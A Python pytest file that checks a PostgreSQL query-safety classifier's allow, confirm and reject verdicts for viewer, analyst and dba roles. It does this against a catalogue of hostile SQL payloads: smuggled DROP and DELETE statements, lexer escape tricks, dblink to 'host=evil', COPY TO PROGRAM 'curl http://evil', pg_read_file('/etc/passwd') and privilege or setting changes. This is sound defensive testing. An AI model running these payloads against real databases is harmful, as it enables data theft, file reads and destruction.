"""Hostile payloads against the SQL classifier and the per-role decision (issue 12).

Written as an attacker who read `sql_safety`, `sql_functions` and `sql_decide`: lexer tricks,
smuggled statements, data-modifying CTEs, side effects hidden in clauses, pg_catalog shadowing,
dynamic SQL, outbound functions and setting changes. Every payload has its verdict for viewer,
analyst and dba asserted offline (and the rule a viewer is told, where one applies). The payloads
that need a database run through `engine.run` as a viewer on a least-privilege login against a
target with planted objects: each is refused (audited exactly once) or harmless (the server
stops it), and the target is unchanged afterwards.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from petcare_dba.errors import Refused
from petcare_dba.services.actor import Actor
from petcare_dba.services.runtime import Runtime
from petcare_dba.services.sql import engine, safety
from petcare_dba.services.sql.safety import classify_script, decide_script
from tests.fix_engine import events
from tests.security.a_classifier_fixtures import LO_OID, LO_TEXT, Hostile, hostile

__all__ = ["hostile"]  # the fixture is used by name

A, C, R = "allow", "confirm", "reject"
OUT, DYN, SET = safety.RULE_OUTBOUND, safety.RULE_DYNAMIC, safety.RULE_SETTINGS
VIEW, GUARD = safety.RULE_VIEWER, safety.RULE_GUARD

# (id, sql, viewer, analyst, dba, rule a viewer and an analyst are refused with, or None)
PAYLOADS: list[tuple[str, str, str, str, str, str | None]] = [
    # --- lexer tricks: the classifier reads what a standard_conforming_strings=on server reads
    ("backslash-quote", "SELECT 'a\\'; DROP TABLE t; --'", R, R, C, None),
    ("e-string-escape", "SELECT E'\\'', 1; DELETE FROM t", R, C, C, None),
    ("e-string-harmless", "SELECT E'\\'; DROP TABLE t; --'", A, A, A, None),
    ("doubled-backslash", "SELECT 'x\\'' ; SELECT pg_read_file('/etc/passwd'); --'", A, A, A, None),
    ("dollar-tag", "SELECT $a$ ' $a$; DELETE FROM t WHERE id = 1", R, A, A, VIEW),
    ("dollar-odd-tag", "SELECT $_t1$ $$; DROP TABLE t; $$ $_t1$", A, A, A, None),
    ("dollar-unicode-tag", "SELECT $é$;DROP TABLE t;$é$", A, A, A, None),
    ("nested-comment", "SELECT 1 /* outer /* inner */ DROP TABLE t; */", A, A, A, None),
    ("nested-comment-exit", "SELECT 1 /* /* */ ; DROP TABLE t */; DELETE FROM t", R, C, C, None),
    # The comment ends at \r: DELETE is then a column alias of a read.
    ("line-comment-cr", "SELECT 1 -- ; \r\nDELETE FROM t WHERE id = 2", A, A, A, None),
    ("line-comment-stmt", "SELECT 1 -- x\n; DELETE FROM t WHERE id = 2", R, A, A, VIEW),
    ("u-string-uescape", "SELECT U&'!0027' UESCAPE '!'; DROP TABLE t", R, R, C, None),
    ("u-ident-uescape", "SELECT U&\"d!0061ta\" UESCAPE '!' FROM t", A, A, A, None),
    ("quoted-ident", 'SELECT 1 AS "; DROP TABLE t; --"', A, A, A, None),
    ("quoted-func", 'SELECT "pg_sleep"(0)', A, A, A, None),
    ("quoted-func-case", "SELECT \"NEXTVAL\"('s')", R, A, A, VIEW),
    # --- smuggled writes
    (
        "cte-delete",
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        R,
        A,
        A,
        VIEW,
    ),
    (
        "cte-recursive-insert",
        "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r),"
        " x AS (INSERT INTO t VALUES (9, 'x') RETURNING 1) SELECT 1",
        R,
        A,
        A,
        VIEW,
    ),
    ("select-into", "SELECT * INTO t_copy FROM t", R, R, A, VIEW),
    ("for-update", "SELECT * FROM t FOR UPDATE", R, A, A, VIEW),
    ("for-key-share", "SELECT * FROM t FOR KEY SHARE NOWAIT", R, A, A, VIEW),
    # --- side effects hidden in clauses
    ("order-by", "SELECT * FROM t ORDER BY nextval('s')", R, A, A, VIEW),
    ("limit", "SELECT * FROM t LIMIT (SELECT setval('s', 1))", R, A, A, VIEW),
    ("values", "VALUES (pg_advisory_lock(1))", R, A, A, VIEW),
    ("lateral", "SELECT * FROM t, LATERAL (SELECT pg_notify('c', note)) x", R, A, A, VIEW),
    (
        "scalar-subquery",
        "SELECT (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)",
        R,
        R,
        C,
        None,
    ),
    ("cast", "SELECT CAST(nextval('s') AS text)", R, A, A, VIEW),
    ("array", "SELECT * FROM t WHERE id = ANY(ARRAY[nextval('s')])", R, A, A, VIEW),
    ("user-function-offline", "SELECT evil()", R, A, A, VIEW),
    # --- pg_catalog shadowing: read exceptions count only for pg_catalog
    ("shadow-qualified", "SELECT public.pg_sleep('x')", R, A, A, VIEW),
    ("shadow-builtin-qualified", "SELECT pg_catalog.pg_sleep(0)", A, A, A, None),
    ("shadow-lo-get", "SELECT public.lo_get(1)", R, R, C, OUT),
    ("shadow-set-config", "SELECT public.set_config('a', 'b', false)", R, R, A, SET),
    # --- dynamic SQL the classifier cannot see
    ("query-to-xml", "SELECT query_to_xml('DELETE FROM t', true, true, '')", R, R, C, DYN),
    (
        "query-to-xmlschema",
        "SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')",
        R,
        R,
        C,
        DYN,
    ),
    ("ts-stat", "SELECT * FROM ts_stat('SELECT to_tsvector(note) FROM t')", R, R, C, DYN),
    ("table-to-xml", "SELECT table_to_xml('t', true, true, '')", R, R, C, DYN),
    ("cursor-to-xml", "SELECT cursor_to_xml('c', 1, true, true, '')", R, R, C, DYN),
    ("ts-rewrite-query", "SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM x')", R, R, C, DYN),
    (
        "ts-rewrite-plain",
        "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)",
        A,
        A,
        A,
        None,
    ),
    ("do-execute", "DO $$ BEGIN EXECUTE 'DELETE FROM t'; END $$", R, C, C, VIEW),
    # --- outbound
    ("dblink", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS x(a int)", R, R, C, OUT),
    ("dblink-connect", "SELECT dblink_connect('host=evil')", R, R, C, OUT),
    (
        "fdw-server",
        "CREATE SERVER ev FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'e')",
        R,
        R,
        C,
        OUT,
    ),
    (
        "fdw-mapping",
        "CREATE USER MAPPING FOR CURRENT_USER SERVER ev OPTIONS (user 'x')",
        R,
        R,
        C,
        OUT,
    ),
    ("fdw-import", "IMPORT FOREIGN SCHEMA public FROM SERVER ev INTO public", R, R, C, OUT),
    ("fdw-table", "CREATE FOREIGN TABLE ft (a int) SERVER ev", R, R, C, OUT),
    ("ext-dblink", "CREATE EXTENSION dblink", R, R, C, OUT),
    ("ext-file-fdw", "CREATE EXTENSION IF NOT EXISTS file_fdw", R, R, C, OUT),
    ("postgres-fdw-fn", "SELECT postgres_fdw_disconnect_all()", R, R, C, OUT),
    ("lo-import", "SELECT lo_import('/etc/passwd')", R, R, C, OUT),
    ("lo-export", f"SELECT lo_export({LO_OID}, '/tmp/x')", R, R, C, OUT),
    ("lo-from-bytea", "SELECT lo_from_bytea(0, 'x')", R, R, C, OUT),
    ("lo-creat", "SELECT lo_creat(-1)", R, R, C, OUT),
    ("lowrite", f"SELECT lowrite(lo_open({LO_OID}, 131072), 'x')", R, R, C, OUT),
    ("lo-open-rw", f"SELECT lo_open({LO_OID}, 393216)", R, R, C, OUT),
    ("lo-open-computed", f"SELECT lo_open({LO_OID}, 262144 | 131072)", R, R, C, OUT),
    ("lo-truncate", "SELECT lo_truncate64(lo_open(1, 131072), 0)", R, R, C, OUT),
    ("lo-unlink", f"SELECT lo_unlink({LO_OID})", R, R, C, OUT),
    ("pg-read-file", "SELECT pg_read_file('/etc/passwd')", R, R, C, OUT),
    ("pg-ls-tmpdir", "SELECT * FROM pg_ls_tmpdir()", R, R, C, OUT),
    ("pg-stat-file", "SELECT pg_stat_file('postgresql.conf')", R, R, C, OUT),
    ("copy-program", "COPY t TO PROGRAM 'curl http://evil'", R, R, C, OUT),
    ("copy-from-file", "COPY t FROM '/etc/passwd'", R, R, C, OUT),
    ("copy-query-file", "COPY (SELECT 1) TO '/tmp/x'", R, R, C, OUT),
    # --- settings that change how the server reads text
    ("set-scs", "SET standard_conforming_strings = off", R, R, A, SET),
    ("set-local-bq", "SET LOCAL backslash_quote = on", R, R, A, SET),
    ("reset-scs", "RESET standard_conforming_strings", R, R, A, SET),
    ("set-encoding", "SET client_encoding = 'SJIS'", R, R, A, SET),
    ("set-names", "SET NAMES 'GBK'", R, R, A, SET),
    (
        "set-config-scs",
        "SELECT set_config('standard_conforming_strings', 'off', true)",
        R,
        R,
        A,
        SET,
    ),
    (
        "set-config-hidden",
        "SELECT 1 FROM t WHERE set_config('backslash_quote', 'on', true) > ''",
        R,
        R,
        A,
        SET,
    ),
    (
        "set-config-qualified",
        "SELECT pg_catalog.set_config('search_path', 'evil', false)",
        R,
        R,
        A,
        SET,
    ),
    (
        "alter-role-set",
        "ALTER ROLE CURRENT_USER SET standard_conforming_strings = off",
        R,
        R,
        C,
        SET,
    ),
    ("alter-db-set", "ALTER DATABASE d SET client_encoding = 'SJIS'", R, R, C, SET),
    ("alter-db-reset", "ALTER DATABASE d RESET ALL", R, R, C, SET),
    ("alter-system", "ALTER SYSTEM SET standard_conforming_strings = off", R, R, C, SET),
    (
        "update-pg-settings",
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
        R,
        R,
        A,
        SET,
    ),
    (
        "cte-update-pg-settings",
        "WITH x AS (UPDATE pg_catalog.pg_settings SET setting = 'on' WHERE name = 'backslash_quote'"
        " RETURNING 1) SELECT * FROM x",
        R,
        R,
        A,
        SET,
    ),
    (
        "prepare-set-config",
        "PREPARE p AS SELECT set_config('client_encoding', 'SJIS', false)",
        R,
        R,
        A,
        SET,
    ),
    ("set-role", "SET ROLE postgres", R, R, A, None),
    ("set-session-auth", "SET SESSION AUTHORIZATION postgres", R, R, A, None),
    ("set-search-path", "SET search_path = evil, pg_catalog", R, A, A, VIEW),
    # --- what the server keeps safe for viewers (fewer false refusals)
    ("declare", "DECLARE c CURSOR FOR SELECT * FROM t", A, A, A, None),
    ("declare-hold", "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t", R, A, A, VIEW),
    ("declare-for-update", "DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", R, A, A, VIEW),
    ("declare-nextval", "DECLARE c CURSOR FOR SELECT nextval('s')", R, A, A, VIEW),
    ("fetch-move-close", "FETCH 2 FROM c; MOVE NEXT IN c; CLOSE c; CLOSE ALL", A, A, A, None),
    ("explain", "EXPLAIN SELECT * FROM t", A, A, A, None),
    ("explain-analyze-write", "EXPLAIN ANALYZE DELETE FROM t", R, C, C, VIEW),
    ("lo-reads", f"SELECT lo_get({LO_OID}), loread(lo_open({LO_OID}, 262144), 5)", A, A, A, None),
    # --- signals and administration are never read-only
    ("cancel", "SELECT pg_cancel_backend(1)", R, R, A, VIEW),
    ("reload", "SELECT pg_reload_conf()", R, R, A, VIEW),
    ("advisory-xact", "SELECT pg_advisory_xact_lock(1)", R, A, A, VIEW),
    ("promote", "SELECT pg_promote()", R, R, C, VIEW),
    ("brin", "SELECT brin_summarize_new_values('i')", R, R, A, VIEW),
    ("stats-reset", "SELECT pg_stat_statements_reset()", R, R, A, VIEW),
    ("stats-restore", "SELECT pg_restore_relation_stats('relation', 't'::regclass)", R, R, A, VIEW),
]


def _outcome(decision: safety.Decision) -> str:
    return type(decision).__name__.lower()


def test_there_are_enough_distinct_payloads() -> None:
    assert len(PAYLOADS) >= 40
    assert len({p[0] for p in PAYLOADS}) == len(PAYLOADS)
    assert len({p[1] for p in PAYLOADS}) == len(PAYLOADS)


@pytest.mark.parametrize(
    ("sql", "viewer", "analyst", "dba", "rule"),
    [pytest.param(*p[1:], id=p[0]) for p in PAYLOADS],
)
def test_payload_verdicts(sql: str, viewer: str, analyst: str, dba: str, rule: str | None) -> None:
    found = classify_script(sql)
    got = {role: decide_script(found, role, False) for role in ("viewer", "analyst", "dba")}
    assert {r: _outcome(d) for r, d in got.items()} == {
        "viewer": viewer,
        "analyst": analyst,
        "dba": dba,
    }
    assert _outcome(decide_script(found, "admin", False)) == dba
    if rule is not None:
        first = got["viewer"]
        assert isinstance(first, safety.Reject)
        assert first.rule == rule and rule in first.message  # the refusal names it
        if rule not in (VIEW, GUARD) and analyst == R:
            assert got["analyst"] == first  # the analyst is told the same rule
    if dba == C and rule in (OUT, DYN):
        assert isinstance(got["dba"], safety.Confirm)
        assert got["dba"].reason  # the dba is told what the statement reaches


# Payloads that need the target's pg_proc, run as a viewer on the least-privilege connection.
# (id, sql, expected): "refused" = Refused by the engine and audited once; "harmless" = the
# classifier lets it run and the server stops or contains it (READ ONLY, privileges).
DB_PAYLOADS = [
    ("user-volatile", "SELECT evil()", "refused"),
    ("shadow-unqualified", "SELECT pg_sleep('x'::text)", "refused"),
    ("shadow-qualified", "SELECT public.pg_sleep('x')", "refused"),
    ("unknown-function", "SELECT no_such_function()", "refused"),
    ("cte-delete", "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", "refused"),
    ("order-by-nextval", "SELECT * FROM t ORDER BY nextval('s')", "refused"),
    ("dblink", "SELECT * FROM dblink('host=127.0.0.1', 'SELECT 1') AS x(a int)", "refused"),
    ("query-to-xml", "SELECT query_to_xml('DELETE FROM t', true, true, '')", "refused"),
    ("set-scs", "SET standard_conforming_strings = off", "refused"),
    ("set-config", "SELECT set_config('standard_conforming_strings', 'off', true)", "refused"),
    ("copy-program", "COPY t TO PROGRAM 'touch /tmp/petcare_redteam_pwned'", "refused"),
    ("lo-export", f"SELECT lo_export({LO_OID}, '/tmp/petcare_redteam_lo')", "refused"),
    ("lo-unlink", f"SELECT lo_unlink({LO_OID})", "refused"),
    ("read-file", "SELECT pg_read_file('/etc/passwd')", "refused"),
    ("smuggled", "SELECT 1; DELETE FROM t WHERE id = 1", "refused"),
    (
        "pg-settings",
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'backslash_quote'",
        "refused",
    ),
    ("lying-immutable", "SELECT imm_liar()", "harmless"),
    ("default-arg-nextval", "SELECT def_arg()", "harmless"),
    ("operator-writer", "SELECT 1 === 1", "harmless"),
    ("cast-writer", "SELECT 1::box2", "harmless"),
    ("plain-explain-liar", "EXPLAIN SELECT imm_liar()", "harmless"),
]


@pytest.mark.parametrize(("sql", "expected"), [pytest.param(*p[1:], id=p[0]) for p in DB_PAYLOADS])
def test_payload_through_the_engine_as_a_viewer(
    rt: Runtime,
    make_user: Callable[[str, str], Actor],
    hostile: Hostile,
    sql: str,
    expected: str,
) -> None:
    viewer: Actor = make_user("vera", "viewer")
    before = hostile.snapshot()
    seen = len(events(rt, viewer))
    if expected == "refused":
        with pytest.raises(Refused) as caught:
            engine.run(rt, viewer, "low", sql)
        assert "rule: " in (caught.value.hint or "")
        new = events(rt, viewer)[seen:]
        assert [e.outcome for e in new] == ["refused"]  # audited exactly once, nothing ran
        assert new[0].detail.get("rule")
    else:
        result = engine.run(rt, viewer, "low", sql)
        assert result.read_only  # it ran in a READ ONLY transaction
        new = events(rt, viewer)[seen:]
        outcomes = [e.outcome for e in new]
        assert outcomes[:1] == ["intent"] and "refused" not in outcomes
    assert hostile.snapshot() == before


def test_viewer_cursor_script_runs_through_the_engine(
    rt: Runtime,
    make_user: Callable[[str, str], Actor],
    hostile: Hostile,
) -> None:
    viewer: Actor = make_user("vera", "viewer")
    script = (
        "DECLARE c CURSOR FOR SELECT id, note FROM t ORDER BY id;\n"
        "FETCH 2 FROM c;\nMOVE NEXT IN c;\nFETCH NEXT FROM c;\nFETCH ABSOLUTE 1 FROM c;\nCLOSE c"
    )
    result = engine.run(rt, viewer, "low", script)
    assert result.ok and result.read_only, result.error
    rows = [r.rows for r in result.results]
    assert rows[1] == ((1, "one"), (2, "two"))
    assert rows[3] == ()  # MOVE went past the last row
    assert rows[4] == ((1, "one"),)
    assert [r.command_tag for r in result.results][-1] == "CLOSE CURSOR"


def test_viewer_reads_large_objects_and_safe_functions(
    rt: Runtime,
    make_user: Callable[[str, str], Actor],
    hostile: Hostile,
) -> None:
    viewer: Actor = make_user("vera", "viewer")
    before = hostile.snapshot()
    result = engine.run(
        rt,
        viewer,
        "low",
        f"SELECT lo_get({LO_OID}), loread(lo_open({LO_OID}, 262144), 5), pure_fn(21), stable_fn();"
        "\nEXPLAIN SELECT * FROM t WHERE id = pure_fn(1)",
    )
    assert result.ok, result.error
    first = result.results[0].rows[0]
    assert (bytes(first[0]), bytes(first[1]), first[2], first[3]) == (LO_TEXT, LO_TEXT[:5], 42, 3)
    assert result.results[1].rows  # the plan
    assert hostile.snapshot() == before


def test_viewer_cannot_open_a_large_object_for_writing_even_hidden(
    rt: Runtime,
    make_user: Callable[[str, str], Actor],
    hostile: Hostile,
) -> None:
    viewer: Actor = make_user("vera", "viewer")
    with pytest.raises(Refused) as caught:
        engine.run(rt, viewer, "low", f"SELECT 1 WHERE lo_open({LO_OID}, (SELECT 131072)) > 0")
    assert OUT in (caught.value.hint or "")
